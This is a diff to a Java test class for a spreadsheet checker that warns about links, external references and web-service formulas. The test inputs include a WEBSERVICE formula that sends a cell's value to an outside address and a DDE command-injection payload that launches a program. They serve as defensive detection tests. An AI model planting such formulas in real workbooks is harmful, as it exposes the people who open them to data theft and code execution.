@@ -143,10 +143,10 @@ class CargoTests {
 
     @ParameterizedTest
     @CsvSource({
-        "externalLink, externalLinks/externalLink1.xml, , 指向其他文件或程序的链接",
-        "externalLinkPath, file:///Z:/2022/年报.xlsx, External, 指向其他文件或程序的链接",
-        "hyperlink, file://192.168.1.2/共享/年报.xlsx, External, 指向其他文件或程序的链接",
-        "image, http://example.com/a.png, External, 指向其他文件或程序的链接",
+        "externalLink, externalLinks/externalLink1.xml, , 指向其他文件、程序或网上服务的链接或公式",
+        "externalLinkPath, file:///Z:/2022/年报.xlsx, External, 指向其他文件、程序或网上服务的链接或公式",
+        "hyperlink, file://192.168.1.2/共享/年报.xlsx, External, 指向其他文件、程序或网上服务的链接或公式",
+        "image, http://example.com/a.png, External, 指向其他文件、程序或网上服务的链接或公式",
         "connections, connections.xml, , 外部数据连接"
     })
     void whatLeadsElsewhereIsToldAndTheFileComesBack(String type, String target, String mode, String said)
@@ -166,11 +166,93 @@ class CargoTests {
             workbook.linkExternalWorkbook("年报.xls", other());
             VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ1").setCellFormula("[年报.xls]表!A1");
         });
-        assertThat(told(formula)).containsExactly("F026 提示 文件带有指向其他文件或程序的链接，程序不打开也不更新");
+        assertThat(told(formula)).containsExactly("F026 提示 文件带有指向其他文件、程序或网上服务的链接或公式，程序不打开也不更新");
         assertThat(back(formula).suffix()).isEqualTo("_退回.xls");
 
         var hyperlink = sound("呼和.xls", workbook -> link(workbook, HyperlinkType.FILE, "..\\..\\2022\\年报.xls"));
-        assertThat(told(hyperlink)).containsExactly("F026 提示 文件带有指向其他文件或程序的链接，程序不打开也不更新");
+        assertThat(told(hyperlink)).containsExactly("F026 提示 文件带有指向其他文件、程序或网上服务的链接或公式，程序不打开也不更新");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "_xlfn.WEBSERVICE(\"http://192.168.1.2/?\"&A1)",
+                "WEBSERVICE(A1)",
+                "cmd|'/c calc'!A1",
+                "HYPERLINK(\"file:///Z:/年报.xlsx\",\"年报\")",
+                "HYPERLINK(\"\\\\192.168.1.2\\共享\\年报.xlsx\")",
+                "hyperlink(\"..\\年报.xls\")",
+                "HYPERLINK(B2)",
+                "IF(A1>1,HYPERLINK(\"D:\\a.xls\",\"a\"),0)",
+                "[1]表!A1+1",
+                "SUM('D:\\2022\\[年报.xls]党员 名册'!A1:A9)",
+                "INDIRECT(\"'[年报.xls]表'!A1\")",
+                "RTD(\"prog\",,\"a\")",
+                "_xlfn.IMAGE(\"http://192.168.1.2/a.png\")",
+            })
+    void aFormulaThatLeadsElsewhereIsTold(String formula) throws Exception {
+        assertThat(told(withFormula(formula))).containsExactly("F026 提示 文件带有指向其他文件、程序或网上服务的链接或公式，程序不打开也不更新");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "SUM(A1:A9)",
+                "HYPERLINK(\"#B03!A1\",\"名册\")",
+                "HYPERLINK(\"https://www.stats.gov.cn/\")",
+                "\"甲|乙\"&A1",
+                "\"WEBSERVICE(\"",
+                "\"见[1]表!A1\"",
+                "INDIRECT(\"'B03'!A\"&1)",
+                "表1[[#This Row],[应交]]*2",
+                "'党员[名册'!A1",
+                "INDEX(A1:A9,MATCH(1,B1:B9,0))"
+            })
+    void aFormulaOfThisWorkbookIsNotTold(String formula) throws Exception {
+        assertThat(told(withFormula(formula))).isEmpty();
+    }
+
+    /** In the plain dress of a cell, and beside what takes a parser to read. */
+    private Path withFormula(String formula) throws IOException {
+        var markup = "<row r=\"900\"><c r=\"AZ900\"><f>%s</f><v>1</v></c></row></sheetData>"
+                .formatted(formula.replace("&", "&amp;").replace("<", "&lt;"));
+        return saved(parts().change("xl/worksheets/sheet1.xml", text -> text.replace("</sheetData>", markup)));
+    }
+
+    @Test
+    void soItIsOutsideOfCells() throws Exception {
+        var condition = saved(parts().change(
+                        "xl/worksheets/sheet1.xml",
+                        text -> text.replace(
+                                "</sheetData>",
+                                "</sheetData><conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
+                                        + "<formula>WEBSERVICE(A1)&gt;1</formula></cfRule></conditionalFormatting>")));
+        assertThat(told(condition)).hasSize(1);
+
+        var name = saved(
+                parts().change(
+                                "xl/workbook.xml",
+                                text -> text.replace(
+                                        "</workbook>",
+                                        "<definedNames><definedName name=\"甲\">cmd|'/c calc'!A1</definedName></definedNames></workbook>")));
+        assertThat(told(name)).hasSize(1);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+            HYPERLINK("file:///Z:/年报.xls","年报")  | 1
+            HYPERLINK(B2)                           | 1
+            INDIRECT("'[年报.xls]表'!A1")           | 1
+            HYPERLINK("#B03!A1","名册")             | 0
+            HYPERLINK("https://www.stats.gov.cn/")  | 0
+            SUM(A1:A9)                              | 0
+            """)
+    void soItIsInTheFormulasOfAnXls(String formula, int findings) {
+        var file = sound(
+                "呼和.xls",
+                workbook -> VillageWorkbook.cell(workbook.getSheet(ROLL), "AZ1").setCellFormula(formula));
+
+        assertThat(told(file)).hasSize(findings);
     }
 
     private static Workbook other() {
